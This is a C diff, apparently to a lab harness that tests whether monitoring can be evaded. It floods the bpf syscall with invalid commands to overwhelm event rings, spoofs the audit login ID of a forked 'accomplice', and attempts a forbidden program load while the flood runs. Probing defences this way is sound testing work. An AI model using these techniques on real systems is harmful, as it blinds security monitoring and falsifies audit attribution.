@@ -12,7 +12,8 @@
 
 #define STOP_SECONDS 5
 #define UNKNOWN_COMMAND 100
-#define FLOOD 60000
+#define FLOOD 200000
+#define FLOOD_LEAD_US 2000000
 #define THREADS 4
 #define TRIES 300
 #define FREEZER "/sys/fs/cgroup/lab-freezer"
@@ -149,13 +150,27 @@ static struct outcome freeze_long(void)
 	return gained("cgroup.freeze of monitor and services");
 }
 
-/* Fills the rings with what nobody may, and does the one act that matters behind it. */
-static struct outcome flood(void)
+static int flood_as_another(void)
 {
+	/* Not a login that counts: from here on it is somebody else, and not a person. */
+	write_file("/proc/self/loginuid", "20050");
 	for (int i = 0; i < FLOOD; i++)
 		bpf(UNKNOWN_COMMAND + i % 64, ATTR(.map_type = 0));
-	return forbidden_runs() ? gained("PROG_LOAD behind a flood") :
-				  failed("PROG_LOAD behind a flood");
+	return 0;
+}
+
+/* An accomplice fills the rings with what nobody may; meanwhile comes the one act that matters. */
+static struct outcome flood(void)
+{
+	pid_t accomplice = fork();
+	bool ran;
+
+	if (!accomplice)
+		_exit(flood_as_another());
+	usleep(FLOOD_LEAD_US);
+	ran = forbidden_runs();
+	kill(accomplice, SIGKILL);
+	return ran ? gained("PROG_LOAD behind a flood") : failed("PROG_LOAD behind a flood");
 }
 
 static atomic_int through;
